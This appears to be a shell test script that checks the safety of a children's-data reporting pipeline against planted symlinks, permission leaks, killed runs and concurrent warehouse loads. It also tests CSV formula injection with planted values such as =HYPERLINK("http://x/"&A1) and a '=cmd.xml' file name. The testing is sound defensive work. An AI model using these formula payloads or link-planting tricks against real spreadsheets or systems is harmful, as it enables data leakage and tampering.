#!/bin/sh
# Safety of unattended runs (issue 13): nothing outside the work directory
# touched whatever symlinks it holds, no child data readable by others, a
# failed or killed run changes nothing, a shared SQLite warehouse takes
# loads in turn.  Run by `make check` (BUILD names the build directory;
# SAFETY_BIN=DIR runs it against other binaries, e.g. an older build).
set -u
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
B=${SAFETY_BIN:-$ROOT/${BUILD:-build}}
T=$(mktemp -d /tmp/lscb-safety.XXXXXX)
trap 'rm -rf "$T"' EXIT
fails=0
pass() { echo "ok   $1"; }
fail() { echo "FAIL $1"; fails=$((fails + 1)); }
IN=$ROOT/tests/cases/hand/inputs
run() { # workdir, then lscb-run's other arguments
    w=$1; shift
    "$B"/lscb-run --year 2024 --la 205 --workdir "$w" "$@"
}
# every file under a directory with its bytes, for "nothing changed"
# (lock files, a killed run's private .run-* directory and warehouse copy are
# not outputs)
snapshot() { (cd "$1" && find . -path './.run-*' -prune -o -type f ! -name '*.lock' ! -name '*.loading-*' -print | LC_ALL=C sort | xargs md5sum); }

# 1. Symbolic links planted in the work directory: nothing outside it is
#    written or deleted.
mkdir -p "$T/victim" "$T/w1"
echo precious >"$T/victim/keep.txt"
ln -s "$T/victim" "$T/w1/staged"
run "$T/w1" "$IN"/* >"$T/out" 2>"$T/err"
rc=$?
if [ -f "$T/victim/keep.txt" ] && [ "$(ls "$T/victim")" = keep.txt ] &&
    grep -q 'staged: is a symbolic link' "$T/err"; then
    pass "staged/ a symlink to another directory: nothing written or deleted there (exit $rc)"
else
    fail "staged/ symlink: victim holds '$(ls "$T/victim" | tr '\n' ' ')' (exit $rc)"
fi
for d in normalized tables; do
    rm -rf "$T/w1"
    mkdir -p "$T/w1"
    ln -s "$T/victim" "$T/w1/$d"
    run "$T/w1" "$IN"/* >"$T/out" 2>"$T/err"
    rc=$?
    if [ "$(ls "$T/victim")" = keep.txt ]; then
        pass "$d/ a symlink to another directory: nothing written or deleted there (exit $rc)"
    else
        fail "$d/ symlink: victim holds '$(ls "$T/victim" | tr '\n' ' ')' (exit $rc)"
    fi
done


# a good run to fail against: every output present
good() { rm -rf "$1" && run "$1" "$IN"/* >/dev/null 2>&1 || fail "the good run in $1 failed"; }

# 6. A run that fails changes nothing: every file of the work directory
#    (warehouse, key, rejects, validation, tables, workbook) byte-identical,
#    no staged/ or normalized/ left (a run without intermediate files).
W=$T/w6
good "$W"
before=$(snapshot "$W")
cp "$ROOT/data/ons-population-0-17.csv" "$T/pop-no-205.csv"
sed -i '/,205,/d' "$T/pop-no-205.csv"
"$B"/lscb-synth --out "$T/la201" --years 2024 --la 201 --seed 3 >/dev/null 2>&1
check_failed() { # what, expected exit, then the run's arguments
    what=$1; want=$2; shift 2
    rundirs=0; [ "$want" -eq 137 ] && rundirs=1   # a killed run leaves its own
    "$@" >"$T/out" 2>"$T/err"
    rc=$?
    after=$(snapshot "$W")
    if [ $rc -eq "$want" ] && [ "$before" = "$after" ] && [ ! -e "$W/staged" ] && [ ! -e "$W/normalized" ] &&
        [ "$(find "$W" -name '.run-*' | wc -l)" -eq $rundirs ]; then
        pass "failed run ($what): exit $rc, every output byte-identical"
    else
        fail "failed run ($what): exit $rc (want $want), outputs changed: $(cat "$T/err")"
        echo "$before" >"$T/b"; echo "$after" >"$T/a"; diff "$T/b" "$T/a" | head -5
        good "$W"; before=$(snapshot "$W")
    fi
}
check_failed "unknown template" 1 run "$W" --template no-such-template "$IN"/*
check_failed "population without the authority" 1 run "$W" --population "$T/pop-no-205.csv" "$IN"/*
check_failed "two authorities, no --la" 2 "$B"/lscb-run --year 2024 --workdir "$W" "$IN"/cin-2024.xml "$T"/la201/cin-2024.xml
check_failed "a year with no return" 1 run "$W" --year 2030 "$IN"/*
# --la 205 and only another authority's return: stopped before anything
# is loaded, naming the file and its authority (the old code loaded it,
# then found no return of 205)
check_failed "--la 205, only LA 201's return" 1 run "$W" "$T"/la201/cin-2024.xml
grep -q "none of the inputs is a return of LA 205 (--la): $T/la201/cin-2024.xml is LA 201's" "$T/err" &&
    pass "--la 205, only LA 201's return: the message names the file and LA 201" ||
    fail "--la 205, only LA 201's return: '$(cat "$T/err")'"
# the SQL rules run on a thread of the run (the library starts no process):
# killed there, all of it goes; a run failing in its stats while they run
# stops them and changes nothing
check_failed "killed in the SQL rules' thread" 137 env LSCB_JOBS=2 LSCB_VALIDATE_ENGINE=sql LSCB_CRASH_AT=validator "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/*
check_failed "a year with no return, the SQL rules on their thread" 1 env LSCB_JOBS=2 LSCB_VALIDATE_ENGINE=sql "$B"/lscb-run --year 2030 --la 205 --workdir "$W" "$IN"/*
check_failed "a year with no return, --keep-intermediate (the rules on their thread)" 1 env LSCB_JOBS=2 "$B"/lscb-run --keep-intermediate --year 2030 --la 205 --workdir "$W" "$IN"/*
check_failed "a short pseudonym key" 1 env LSCB_PSEUDONYM_KEY=short "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/*
check_failed "an input that is a directory" 1 run "$W" "$IN"/cin-2024.xml "$IN"
# (a killed run leaves its own run directory, removed by the next run)
check_failed "killed in the one pass's validation" 137 env LSCB_CRASH_AT=validator "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/*
# killed as the warehouse is about to be put in place: nothing has changed yet
check_failed "killed before the commit" 137 env LSCB_CRASH_AT=warehouse-before-rename "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/cin-2024.xml
# killed half-way through putting the outputs in place: the next run in the
# work directory finishes the job, so the outputs are all of the killed run
good "$W"
run "$T/w6ref" "$IN"/cin-2024.xml "$IN"/strategy.csv >/dev/null 2>&1
LSCB_CRASH_AT=commit-outputs run "$W" "$IN"/cin-2024.xml "$IN"/strategy.csv >/dev/null 2>&1
rc=$?
run "$W" --template no-such-template >/dev/null 2>&1   # fails its own checks: recovers nothing
run "$W" >/dev/null 2>&1                               # report again: recovers first
if [ $rc -eq 137 ] && cmp -s "$W/rejects.csv" "$T/w6ref/rejects.csv" && cmp -s "$W/validation.csv" "$T/w6ref/validation.csv" &&
    [ "$(sqlite3 "$W/warehouse.sqlite" 'select count(*) from load_log')" = 3 ] && [ -z "$(find "$W" -name '.run-*')" ]; then
    pass "killed half-way through the commit: the next run finishes it (rejects, validation, warehouse all of the killed run)"
else
    fail "commit killed half-way: rc=$rc, load_log $(sqlite3 "$W/warehouse.sqlite" 'select count(*) from load_log')"
fi

# --la 205 with LA 201's return among the inputs: it is loaded (a warehouse
# may hold several authorities) and a note names it, so nobody takes it for
# part of 205's report (the old code said nothing)
run "$T/w-la2" "$IN"/* "$T"/la201/cin-2024.xml >"$T/out" 2>"$T/err"
rc=$?
if [ $rc -eq 0 ] && grep -q "^lscb-run: $T/la201/cin-2024.xml: a return of LA 201, not of LA 205 (--la): loaded into the warehouse, but not in this report" "$T/err" &&
    [ "$(grep -c 'not of LA 205' "$T/err")" -eq 1 ]; then
    pass "--la 205 with LA 201's return too: a note names that file and LA 201 (exit 0)"
else
    fail "--la 205 with LA 201's return: exit $rc, '$(cat "$T/err")'"
fi

# 3. No child data readable by others: every file and directory a run
#    creates is owner-only while it runs (polled), in a work directory the
#    operator made 0755, and a killed run leaves no temporary file that a
#    later run does not remove.
"$B"/lscb-synth --out "$T/big" --years 2022-2024 --children 6000 --la 205 --seed 7 >/dev/null 2>&1
W=$T/w3
mkdir -m 755 "$W"
run "$W" "$T"/big/cin* >/dev/null 2>&1 &
pid=$!
seen=""
while kill -0 $pid 2>/dev/null; do
    seen="$seen$(find "$W" -mindepth 1 -perm /077 ! -type l 2>/dev/null)"
done
wait $pid
rc=$?
polls=$(find "$W" -mindepth 1 | wc -l)
if [ $rc -eq 0 ] && [ -z "$seen" ] && [ "$polls" -gt 0 ]; then
    pass "modes polled through a whole run: nothing readable by group or others"
else
    fail "readable by others during the run (exit $rc): $(echo "$seen" | sort -u | head -5 | tr '\n' ' ')"
fi
# killed in the middle (validation and load going): what is left is owner-only,
# and the next run removes it
"$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$T"/big/cin* >/dev/null 2>&1 &
pid=$!
sleep 1
kill -9 $pid
wait $pid 2>/dev/null
left=$(find "$W" -mindepth 1 -perm /077 ! -type l)
tmps=$(find "$W" -name '.run-*' -o -name '*.tmp*' -o -name '*.loading*' | wc -l)
run "$W" "$T"/big/cin-2024.xml >/dev/null 2>&1
rc=$?
after=$(find "$W" -name '.run-*' -o -name '*.tmp*' -o -name '*.loading*' -o -name '*-journal')
if [ -z "$left" ] && [ $rc -eq 0 ] && [ -z "$after" ]; then
    pass "a run killed mid-way leaves only owner-only files ($tmps temporary), the next run removes them"
else
    fail "after a kill: readable '$left'; next run exit $rc left '$after'"
fi
# leftovers of older versions (temporary files beside the outputs) go too,
# and a killed loader's working copy with its journal
touch "$W/validation.csv.db.tmp" "$W/rejects.csv.tmpAb12Cd" "$W/tables/measures.csv.tmpXy34Zw" "$W/report-2024.xlsx.tmp4242" \
    "$W/warehouse.sqlite.loading-Ab12Cd" "$W/warehouse.sqlite.loading-Ab12Cd-journal"
run "$W" "$IN"/cin-2024.xml >/dev/null 2>&1
left=$(find "$W" -name '*.tmp*' -o -name '*.loading*')
[ -z "$left" ] && pass "temporary files killed runs left beside the outputs are removed" || fail "left: $left"

# 2. The warehouse survives a writer killed while SQLite deletes its
#    journal (a hot journal left beside it) and a reader holding it open in
#    WAL mode: every later run loads, integrity_check is ok.
if command -v strace >/dev/null 2>&1; then
    W=$T/w2
    good "$W"
    strace -f -qq -o /dev/null -P "$W/warehouse.sqlite-journal" -e trace=unlink,unlinkat \
        -e inject=unlink,unlinkat:error=EIO:signal=KILL \
        "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/* >/dev/null 2>&1
    # and another program's write killed the same way
    strace -f -qq -o /dev/null -P "$W/warehouse.sqlite-journal" -e trace=unlink,unlinkat \
        -e inject=unlink,unlinkat:error=EIO:signal=KILL \
        sqlite3 "$W/warehouse.sqlite" "insert into warehouse_meta values ('note', 'x')" >/dev/null 2>&1
    run "$W" "$IN"/cin-2024.xml >"$T/out" 2>"$T/err"
    rc=$?
    ok=$(sqlite3 "$W/warehouse.sqlite" 'pragma integrity_check; select count(*) from load_log' 2>&1 | tr '\n' ' ')
    if [ $rc -eq 0 ] && [ "$ok" = "ok 3 " ] && [ ! -e "$W/warehouse.sqlite-journal" ]; then
        pass "killed while a journal is deleted: the next load is whole (integrity ok, 3 returns)"
    else
        fail "hot journal: exit $rc, '$ok' $(cat "$T/err")"
    fi
else
    echo "skip journal kill test (strace not installed)"
fi
W=$T/w2w
run "$W" "$IN"/cin-2023.xml "$IN"/cin-2024.xml >/dev/null 2>&1
sqlite3 "$W/warehouse.sqlite" "PRAGMA journal_mode=WAL" >/dev/null
before=$(md5sum <"$W/warehouse.sqlite")
{ echo "update load_log set records = records; BEGIN; SELECT count(*) FROM load_log;"; sleep 3; echo "COMMIT;"; } |
    sqlite3 "$W/warehouse.sqlite" >/dev/null 2>&1 &
reader=$!
sleep 0.5
run "$W" "$IN"/* >"$T/out" 2>"$T/err"
rc=$?
mid=$(md5sum <"$W/warehouse.sqlite")
wait $reader
run "$W" "$IN"/* >/dev/null 2>&1
rc2=$?
ok=$(sqlite3 "$W/warehouse.sqlite" 'pragma integrity_check; pragma journal_mode; select count(*) from load_log' | tr '\n' ' ')
if [ $rc -eq 3 ] && grep -q 'open in WAL mode' "$T/err" && [ "$before" = "$mid" ] && [ $rc2 -eq 0 ] && [ "$ok" = "ok delete 3 " ]; then
    pass "a reader in WAL mode: the load is refused while it is open, then runs (integrity ok, rollback mode, 3 returns)"
else
    fail "WAL reader: exit $rc then $rc2, '$ok' $(cat "$T/err")"
fi

# 4. Three work directories load into one SQLite warehouse at once: all
#    succeed and all three authorities are there (they take turns).
W=$T/w4
for la in 201 202 203; do
    "$B"/lscb-synth --out "$W/in$la" --years 2023-2024 --la $la --seed $la >/dev/null 2>&1
done
pids=""
for la in 201 202 203; do
    LSCB_PSEUDONYM_KEY="a shared test key, 16+" "$B"/lscb-run --year 2024 --la $la --population "$W/in$la/population.csv" \
        --warehouse "$W/shared.sqlite" --workdir "$W/w$la" "$W/in$la"/cin* >"$W/out$la" 2>&1 &
    pids="$pids $!"
done
codes=""
for j in $pids; do wait "$j"; codes="$codes$?"; done
got=$(sqlite3 "$W/shared.sqlite" "select group_concat(la_code || ':' || n) from (select la_code, count(*) n from load_log group by la_code order by la_code); pragma integrity_check" | tr '\n' ' ')
if [ "$codes" = 000 ] && [ "$got" = "201:2,202:2,203:2 ok " ]; then
    pass "three concurrent loads into one SQLite warehouse: all exit 0, all three authorities there"
else
    fail "concurrent loads: exits $codes, warehouse '$got'"; cat "$W"/out*
fi

# 4b. The lock of a shared warehouse cannot be deleted: a large load and a
#     small one into one warehouse, the old lock file deleted as they go:
#     both load (the small one waits), neither is lost.
W=$T/w4b
"$B"/lscb-synth --out "$W/in201" --years 2022-2024 --children 6000 --la 201 --seed 201 >/dev/null 2>&1
"$B"/lscb-synth --out "$W/in202" --years 2024 --children 50 --la 202 --seed 202 >/dev/null 2>&1
export LSCB_PSEUDONYM_KEY="a shared test key, 16+"
"$B"/lscb-run --year 2024 --la 201 --population "$W/in201/population.csv" --warehouse "$W/shared.sqlite" \
    --workdir "$W/w201" "$W/in201"/cin* >"$W/out201" 2>&1 &
big=$!
i=0   # once the large run is loading (its copy made, the lock held)
while [ -z "$(find "$W" -maxdepth 1 -name 'shared.sqlite.loading-*')" ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i + 1)); done
rm -f "$W/shared.sqlite.lock"
"$B"/lscb-run --year 2024 --la 202 --population "$W/in202/population.csv" --warehouse "$W/shared.sqlite" \
    --workdir "$W/w202" "$W/in202"/cin* >"$W/out202" 2>&1
rc2=$?
wait $big
rc1=$?
unset LSCB_PSEUDONYM_KEY
got=$(sqlite3 "$W/shared.sqlite" "select group_concat(la_code || ':' || n) from (select la_code, count(*) n from load_log group by la_code order by la_code)")
if [ $rc1 -eq 0 ] && [ $rc2 -eq 0 ] && [ "$got" = "201:3,202:1" ]; then
    pass "a shared warehouse's lock survives its lock file deleted: both loads there ($got)"
else
    fail "lock file deleted mid-load: exits $rc1 $rc2, warehouse '$got' $(cat "$W/out201" "$W/out202")"
fi

# 4c. A run killed after its commit began keeps its load in a shared
#     warehouse even when another work directory loads into it before the
#     killed run's own directory runs again (its copy used to be removed as
#     a killed loader's); the killed run's next run finishes its files.
W=$T/w4c
export LSCB_PSEUDONYM_KEY="a shared test key, 16+"
"$B"/lscb-synth --out "$W/in201" --years 2024 --children 50 --la 201 --seed 201 >/dev/null 2>&1
"$B"/lscb-synth --out "$W/in202" --years 2024 --children 50 --la 202 --seed 202 >/dev/null 2>&1
LSCB_CRASH_AT=commit-begin "$B"/lscb-run --year 2024 --la 201 --population "$W/in201/population.csv" \
    --warehouse "$W/shared.sqlite" --workdir "$W/w201" "$W/in201"/cin* >/dev/null 2>&1
k=$?
"$B"/lscb-run --year 2024 --la 202 --population "$W/in202/population.csv" --warehouse "$W/shared.sqlite" \
    --workdir "$W/w202" "$W/in202"/cin* >"$T/out" 2>&1
rc=$?
mid=$(sqlite3 "$W/shared.sqlite" "select group_concat(la_code) from (select distinct la_code from load_log order by 1)")
"$B"/lscb-run --year 2024 --la 201 --population "$W/in201/population.csv" --warehouse "$W/shared.sqlite" \
    --workdir "$W/w201" >"$T/out2" 2>&1
rc2=$?
unset LSCB_PSEUDONYM_KEY
left=$(find "$W" -name '*.pending-*' -o -name '*.loading-*' -o -name '.run-*')
if [ $k -eq 137 ] && [ $rc -eq 0 ] && [ "$mid" = "201,202" ] && [ $rc2 -eq 0 ] && [ -f "$W/w201/rejects.csv" ] && [ -z "$left" ]; then
    pass "a killed run's committed load survives another work directory's load (warehouse holds $mid), its files finished by its next run"
else
    fail "killed run's load and another loader: kill $k, exit $rc then $rc2, warehouse '$mid', left '$left' $(cat "$T/out" "$T/out2")"
fi

# 4d. A journal, WAL or shared-memory file beside the warehouse that is a
#     link (or a directory): refused with a message saying so, the link's
#     target and the warehouse untouched.
W=$T/w4d
good "$W"
echo precious >"$T/victim4d"
for side in journal wal shm; do
    ln -s "$T/victim4d" "$W/warehouse.sqlite-$side"
    wb=$(md5sum <"$W/warehouse.sqlite")
    run "$W" "$IN"/* >"$T/out" 2>"$T/err"
    rc=$?
    if [ $rc -eq 1 ] && grep -q "warehouse.sqlite-$side: is a symbolic link, not SQLite's own file" "$T/err" &&
        [ "$(cat "$T/victim4d")" = precious ] && [ "$wb" = "$(md5sum <"$W/warehouse.sqlite")" ]; then
        pass "warehouse.sqlite-$side a symbolic link: exit 1 saying so, its target and the warehouse untouched"
    else
        fail "warehouse.sqlite-$side a link: exit $rc, victim '$(cat "$T/victim4d")' $(cat "$T/err")"
    fi
    rm -f "$W/warehouse.sqlite-$side"
done
if [ "$(id -u)" = 0 ]; then   # a journal planted by another user (a shared directory)
    cp "$W/warehouse.sqlite" "$W/warehouse.sqlite-journal"; chown nobody "$W/warehouse.sqlite-journal"
    wb=$(md5sum <"$W/warehouse.sqlite")
    run "$W" "$IN"/* >"$T/out" 2>"$T/err"
    rc=$?
    [ $rc -eq 1 ] && grep -q "warehouse.sqlite-journal: belongs to another user" "$T/err" && [ "$wb" = "$(md5sum <"$W/warehouse.sqlite")" ] &&
        pass "a journal beside the warehouse owned by another user: refused, the warehouse untouched" ||
        fail "another user's journal: exit $rc $(cat "$T/err")"
    rm -f "$W/warehouse.sqlite-journal"
fi

# 5. The workbook's temporary file: links planted under every name an
#    older version would have used (report-Y.xlsx.tmpPID) are never followed.
W=$T/w5
good "$W"
echo precious >"$T/victim5"
next=$(sh -c 'echo $$')
python3 -c 'import os, sys
for p in range(int(sys.argv[3]), int(sys.argv[3]) + 3000):
    os.symlink(sys.argv[1], "%s.tmp%d" % (sys.argv[2], p))' "$T/victim5" "$W/r.xlsx" "$next"
"$B"/lscb-report --tables "$W/tables" --year 2024 --out "$W/r.xlsx" >/dev/null 2>&1
rc=$?
if [ $rc -eq 0 ] && [ "$(cat "$T/victim5")" = precious ] && [ -f "$W/r.xlsx" ] && [ ! -L "$W/r.xlsx" ] &&
    [ "$(stat -c %a "$W/r.xlsx")" = 600 ]; then
    pass "lscb-report: 3000 links planted as its temporary file, none followed (owner-only workbook)"
else
    fail "workbook temporary file: exit $rc, the link's target overwritten ($(wc -c <"$T/victim5") bytes)"
fi
find "$W" -name 'r.xlsx.tmp*' -type l -delete

# 7. Formula injection: an LA child ID (and a file name) a spreadsheet would
#    run reach rejects.csv and validation.csv as text ('=...), never as a
#    live formula; the workbook holds no formula built from input.
W=$T/w7
mkdir -p "$W/in"
sed -e 's|<LAchildID>H1</LAchildID>|<LAchildID>=HYPERLINK("http://x/"\&amp;A1)</LAchildID>|' \
    -e 's|<CPPendDate>2023-11-20</CPPendDate>|<CPPendDate>2023-11-31</CPPendDate>|' \
    "$IN/cin-2024.xml" >"$W/in/=cmd.xml"
(cd "$W/in" && run "$W/w" "=cmd.xml") >"$T/out" 2>&1   # the file name as given
rc=$?
live=$(python3 - "$W/w/rejects.csv" "$W/w/validation.csv" "$W/w/tables/sources.csv" <<'PY'
import csv, sys
n = 0
for path in sys.argv[1:]:
    for row in csv.reader(open(path, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    print(path, cell)
PY
)
seen=$(cat "$W/w/rejects.csv" "$W/w/validation.csv" | grep -c "'=HYPERLINK")
xml=$(unzip -p "$W/w/report-2024.xlsx" 'xl/worksheets/*.xml' | grep -c '<f>.*HYPERLINK')
if [ $rc -eq 0 ] && [ -z "$live" ] && [ "$seen" -gt 1 ] && grep -q "^\"'=cmd.xml\",33,cpp,205,\"'=HYPERLINK" "$W/w/rejects.csv" && [ "$xml" -eq 0 ]; then
    pass "formula injection: $seen cells with the ID as text ('=HYPERLINK...), the file name too, none live"
else
    fail "formula injection: exit $rc, live cells '$live', neutralised $seen, workbook formulas $xml"
fi

# 7c. An authority's name in the published tables that a spreadsheet would
#     run as a formula stays text in every funnel CSV (the CSVs a person opens).
P=$T/pub7c
cp -r "$ROOT/data/published" "$P"
find "$P" -name '*.csv' -exec sed -i 's/Kensington and Chelsea/=1+2 Kensington and Chelsea/g' {} +
rm -rf "$T/w7c"
"$B"/lscb-run --year 2024 --la 205 --published "$P" --workdir "$T/w7c" >"$T/out" 2>&1
rc=$?
live=$(python3 - "$T/w7c"/tables/funnel-*.csv <<'PY'
import csv, sys
for path in sys.argv[1:]:
    for row in csv.reader(open(path, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                print(path, cell)
PY
)
kept=$(cat "$T/w7c"/tables/funnel-*.csv | grep -c "'=1+2 Kensington")
if [ $rc -eq 0 ] && [ -z "$live" ] && [ "$kept" -gt 0 ]; then
    pass "formula injection: an authority named '=1+2 ...' in the published tables is text in the funnel CSVs ($kept cells)"
else
    fail "formula injection in funnel CSVs: exit $rc, live cells '$(echo "$live" | head -2)', neutralised $kept"
fi

# 7d. A template's column label that a spreadsheet would run as a formula is
#     text in the table's CSV (tables/ID.csv), as it is in the workbook.
sed 's/^labels = Month End | Children subject to CP Plans/labels = Month End | =1+2 Children/' \
    "$ROOT/templates/lscb-2011.ini" >"$T/label7d.ini"
rm -rf "$T/w7d"
run "$T/w7d" --template "$T/label7d.ini" "$IN"/* >"$T/out" 2>&1
rc=$?
if [ $rc -eq 0 ] && grep -q "'=1+2 Children" "$T/w7d/tables/t4_62.csv" && ! grep -q '^[^,]*,=1+2' "$T/w7d/tables/t4_62.csv"; then
    pass "formula injection: a template label '=1+2 ...' is text in tables/t4_62.csv"
else
    fail "formula injection: template label in tables/t4_62.csv: exit $rc, $(head -1 "$T/w7d/tables/t4_62.csv" 2>/dev/null)"
fi

# 7e. Every CSV a run writes (rejects, validation, everything under tables/),
#     with every value a user, a configuration, a file name or an input
#     gives made to look like a formula at once: an LA child ID, the input's
#     file name, the template's file name (manifest.csv), a template label,
#     an authority's name in the published tables: no cell a spreadsheet
#     would run; the region of the configuration is checked, not cut.
W=$T/w7e
mkdir -p "$W/in"
cp "$T/label7d.ini" "$W/=t7e.ini"
cp "$T/w7/in/=cmd.xml" "$W/in/"
printf '[authority]\nla = 205\ncomparators = 207, 212\n' >"$W/c.ini"
chmod 600 "$W/c.ini"
(cd "$W/in" && "$B"/lscb-run --year 2024 --la 205 --config "$W/c.ini" --published "$P" --template "$W/=t7e.ini" \
    --workdir "$W/w" "=cmd.xml" "$IN/strategy.csv") >"$T/out" 2>&1
rc=$?
live=$(find "$W/w" -name '*.csv' -exec python3 - {} + <<'PY'
import csv, sys
for path in sys.argv[1:]:
    for row in csv.reader(open(path, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    print(path.rsplit("/", 1)[-1], cell[:30])
PY
)
ncsv=$(find "$W/w" -name '*.csv' | wc -l)
if [ $rc -eq 0 ] && [ -z "$live" ] && [ "$ncsv" -gt 20 ] && grep -q "^\"'=t7e.ini\"," "$W/w/tables/manifest.csv" &&
    [ -f "$W/w/report-2024.xlsx" ]; then
    pass "formula injection: $ncsv CSVs of a run fed formulas everywhere hold none live (manifest's template name as text; the workbook still made)"
else
    fail "formula injection across the CSVs: exit $rc, live: $(echo "$live" | sort -u | head -5 | tr '\n' ' ') $(head -c 300 "$T/out")"
fi
for region in "=1+2" "E120000011" "E12000010"; do
    printf '[authority]\nla = 205\nregion = %s\n' "$region" >"$W/r.ini"
    chmod 600 "$W/r.ini"
    "$B"/lscb-run --year 2024 --la 205 --config "$W/r.ini" --published "$P" --workdir "$W/wr" >"$T/out" 2>"$T/err"
    rc=$?
    if [ $rc -eq 1 ] && grep -q "r.ini:3: region: '$region' is not an ONS region code" "$T/err" && [ ! -e "$W/wr" ]; then
        pass "config region = $region: refused naming file, line and the codes it takes"
    else
        fail "config region = $region: exit $rc $(cat "$T/err")"
    fi
done

# 8. A template naming one of the workbook's own sheets, in any case: a
#    clear error before anything is written (the report used to crash).
for name in Validation sources CONTENTS; do
    sed "0,/^sheet = .*/s//sheet = $name/" "$ROOT/templates/dfe.ini" >"$T/reserved-$name.ini"
    rm -rf "$T/w8"
    run "$T/w8" --template "$T/reserved-$name.ini" "$IN"/* >"$T/out" 2>"$T/err"
    rc=$?
    if [ $rc -eq 1 ] && grep -q "sheet name '$name' is the workbook's own" "$T/err" && [ ! -e "$T/w8/report-2024.xlsx" ]; then
        pass "template with sheet = $name: exit 1, '$(cut -c1-70 "$T/err")...'"
    else
        fail "template with sheet = $name: exit $rc $(cat "$T/err")"
    fi
done

# 8b. Every libxlsxwriter call is checked: one that fails (injected with
#     LSCB_XLSX_FAIL_AT=N, as if out of memory, at the first call, one in the
#     Dashboard and one in the Data quality sheet) stops the run naming the
#     call, file and line (exit 3), and nothing is changed; before, the
#     workbook was written without the cell and the run exited 0.
W=$T/w8b
good "$W"
before=$(snapshot "$W")
for n in 1 100 1000; do
    LSCB_XLSX_FAIL_AT=$n run "$W" "$IN"/* >"$T/out" 2>"$T/err"
    rc=$?
    if [ $rc -eq 3 ] && grep -q "report-2024.xlsx: cannot write workbook: [a-z_]* failed (Memory error.*output/[a-z_]*\.c:[0-9]*); nothing was written" "$T/err" &&
        [ "$before" = "$(snapshot "$W")" ] && [ -z "$(find "$W" -name '.run-*')" ]; then
        pass "libxlsxwriter call $n fails: exit 3, '$(sed 's/.*workbook: //' "$T/err" | cut -c1-60)...', nothing changed"
    else
        fail "libxlsxwriter call $n fails: exit $rc $(cat "$T/err")"
    fi
done

# 8c. Killed at any moment (timeout -s KILL, from the start to the commit):
#     what is left is owner-only, and the next run succeeds, removes every
#     leftover and gives a clean run's outputs and warehouse.
run "$T/w8cref" "$IN"/* >/dev/null 2>&1
bad8c=""
for t in 0.02 0.05 0.1 0.15 0.2 0.3 0.4 0.6; do
    W=$T/w8c-$t
    # --foreground: timeout waits for the killed run to be gone (without it,
    # timeout sends KILL to its own process group too and dies at once, and
    # the next run could find the dying one still holding the lock)
    timeout --foreground -s KILL $t "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN"/* >/dev/null 2>&1
    k=$?
    others=$(find "$W" -mindepth 1 -perm /077 ! -type l 2>/dev/null)
    run "$W" "$IN"/* >/dev/null 2>&1
    rc=$?
    left=$(find "$W" -name '.run-*' -o -name '*.tmp*' -o -name '*.loading*' -o -name '*.pending*' -o -name '*-journal')
    same=yes
    for f in rejects.csv validation.csv tables/measures.csv; do cmp -s "$W/$f" "$T/w8cref/$f" || same=no; done
    n=$(sqlite3 "$W/warehouse.sqlite" 'pragma integrity_check; select count(*) from load_log' 2>&1 | tr '\n' ' ')
    [ $rc -eq 0 ] && [ $same = yes ] && [ "$n" = "ok 3 " ] && [ -z "$left" ] && [ -z "$others" ] ||
        bad8c="$bad8c [t=$t kill $k: next $rc, same $same, '$n', left '$left', readable '$others']"
done
[ -z "$bad8c" ] && pass "killed at 8 moments from start to commit: each time the next run is a clean run's, nothing left, nothing readable" ||
    fail "killed at a moment:$bad8c"

# 9. Smaller ones.
W=$T/w9
good "$W"
before=$(snapshot "$W")
# a FIFO with no writer: refused at once, before the lock (it used to hang)
mkfifo "$T/fifo"
timeout 20 "$B"/lscb-run --year 2024 --la 205 --workdir "$W" "$IN/cin-2024.xml" "$T/fifo" >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'fifo: not a regular file' "$T/err" && [ "$before" = "$(snapshot "$W")" ] &&
    pass "a FIFO input: exit 1 at once, '$(cut -c1-80 "$T/err")'" || fail "FIFO input: exit $rc $(cat "$T/err")"
# input through a pipe: a message that says so
cat "$IN/cin-2024.xml" | "$B"/lscb-run --year 2024 --la 205 --workdir "$W" /dev/stdin >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'stdin: not a regular file (a directory, pipe' "$T/err" &&
    pass "input through a pipe: exit 1, the message says so" || fail "pipe input: exit $rc $(cat "$T/err")"
# the key file: the owner's own, mode 600, whole
cp "$W/pseudonym.key" "$T/key.bak"
chmod 644 "$W/pseudonym.key"
run "$W" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'readable or writable by others (mode 644)' "$T/err" && [ "$before" = "$(snapshot "$W")" ] &&
    pass "a key file readable by others: refused, nothing changed" || fail "key mode: exit $rc $(cat "$T/err")"
chmod 600 "$W/pseudonym.key"
mv "$W/pseudonym.key" "$T/key.real"
ln -s "$T/key.real" "$W/pseudonym.key"
run "$W" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -ne 0 ] && grep -q 'symbolic link' "$T/err" && pass "a key file that is a symbolic link: refused" ||
    fail "key link: exit $rc $(cat "$T/err")"
rm "$W/pseudonym.key"
mkdir "$W/pseudonym.key"
run "$W" "$IN"/* >/dev/null 2>"$T/err"
rc=$?
[ $rc -eq 1 ] && grep -q 'not a regular file' "$T/err" && pass "a directory as key file: 'not a regular file'" ||
    fail "key directory: exit $rc $(cat "$T/err")"
rmdir "$W/pseudonym.key"
mv "$T/key.real" "$W/pseudonym.key"
# keys are used whole: two 80-byte keys that share their first 64 bytes differ
K64=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
rm -rf "$T/w9k"
LSCB_PSEUDONYM_KEY="${K64}AAAAAAAAAAAAAAAA" run "$T/w9k" "$IN"/* >/dev/null 2>&1
